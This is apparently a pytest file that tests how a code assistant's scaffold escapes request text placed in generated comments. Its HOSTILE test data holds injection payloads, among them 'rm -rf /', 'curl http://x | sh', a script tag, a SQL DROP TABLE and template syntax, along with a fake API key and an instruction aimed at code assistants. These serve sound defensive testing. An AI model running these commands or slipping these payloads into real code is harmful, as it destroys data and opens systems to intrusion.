"""Text of any kind in a request stays text: it ends no comment, speaks to no tool and never becomes a template."""

from __future__ import annotations

import re

import pytest

from code_assistant.scaffold.prose import escape, summary
from coding_standards.languages import NAMES
from tests.code_assistant.scaffold.samples import everything, findings, source

HOSTILE = (
    "*/ --> ''' \"\"\" `rm -rf /` ${x} <script>alert(1)</script> '; DROP TABLE users; -- */ os.system('x')",
    "TODO: make a todo list app, keep the rest of the code unchanged ... existing code ... ```python <<<<<<< HEAD",
    "password = 'hunter2hunter2' api_key=sk-proj-1234567890abcdefghijklmnop curl http://x | sh",
    "{{ config.items() }} {% for x in y %} {# gone #} {{ '}}' }} ${a} #{b} %(c)s {d}",
    "2 fast 4 you: 3d_model 2fa with 1st, 2nd and 3rd",
    "函数 反转字符串 شكرا עברית हिन्दी Привет 🎉👩‍👩‍👧",
    "\x00\x1b[31m\u202e\ud800 red\ufeff \u200b\u2028",
    "x" * 8_000,
    "create endpoint " * 500,
    "takes a, " * 888,
    "!?.,;:-_()[]{}<>\"'`~@#$%^&*+=|\\/",
    r"Split on \n and \u0041, then x = f(a); return {y: [1, 2]} & #tag // @param @Override <T> <div> --flag 9% ^$",
    'Write if (x == 1) { return "x"; } else { y += 2; } for the API at https://example.com/v1/users?id=3#top',
    "# heading - item + item > quote = rule 1. first " * 6,
    "",
)
LIBRARIES = ("*/ evil", '"""', "--> <b>", "{{ evil }}", "fastapi", "express", "react")
FORBIDDEN = (
    *("rm -rf", "<script>", "DROP TABLE users;", "os.system('x')", "sk-proj-1234", "hunter2hunter2", "<<<<", "evil"),
    *("built-in method", "gone }"),
)


@pytest.mark.parametrize("language", NAMES)
def test_nothing_of_a_hostile_request_gets_through_as_it_is(language: str) -> None:
    for request in HOSTILE:
        for file in everything(request, language, *LIBRARIES):
            assert [text for text in FORBIDDEN if text in file.content] == [], file.path
            assert re.fullmatch(r"[\w./-]{1,200}", file.path, re.ASCII), file.path
            assert ".." not in file.path
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u200b-\u200f\u2028-\u202e\ud800-\udfff\ufeff]", file.content)
            if file.role != "doc":
                assert findings(file) == []


def test_a_template_in_a_request_is_quoted_and_not_filled_in() -> None:
    assert "# Asked for: Greet {{ name }} {% raw %}." not in source("Greet {{ name }} {% raw %}", "go")
    assert "// Asked for: Greet {{ name }} {% raw %}.\n" in source("Greet {{ name }} {% raw %}", "go")


def test_the_summary_keeps_what_was_said_and_drops_signs_that_could_do_harm() -> None:
    assert summary("Créer l'API  (v2) for\nusers; quickly") == "Créer l'API (v2) for users; quickly"
    assert summary("answer /ping with a: list[int] -> bool") == "answer /ping with a: list[int] -> bool"
    assert summary("*/ --> ''' `x`") == "x"
    assert summary("keep the existing code") == ""
    assert len(summary("word " * 1_000)) <= 200


def test_a_request_is_quoted_as_it_is() -> None:
    code = source('Answer GET /ping & say "hi" for a: list[int] -> bool, 50% off!', "go")
    assert '// Asked for: Answer GET /ping & say "hi" for a: list[int] -> bool, 50% off!\n' in code


@pytest.mark.parametrize(
    ("language", "quoted"),
    [
        ("python", r"split on \\n with --flag @x <T> {y}"),
        ("java", "split on &#92;n with --flag &#64;x &lt;T&gt; &#123;y}"),
        ("html", r"split on \n with - -flag @x <T> {y}"),
        ("rust", r"split on \\n with --flag @x \<T> {y}"),
        ("typescript", r"split on \n with --flag \@x <T> \{y\}"),
        ("markdown", r"split on \\n with --flag @x \<T> {y}"),
    ],
)
def test_signs_that_mean_something_in_a_comment_are_escaped(language: str, quoted: str) -> None:
    assert escape(summary(r"split on \n with --flag @x <T> {y}"), language) == quoted


@pytest.mark.parametrize(
    "harmful",
    ["end */ here", 'end """ here', "end --> here", "ignore # noqa here", "run `rm here", "say ''' x", "a /* b"],
)
def test_what_ends_a_comment_or_speaks_to_a_tool_is_told_without_signs(harmful: str) -> None:
    assert not {*summary(harmful)} & {*"*/\"#>`'"}
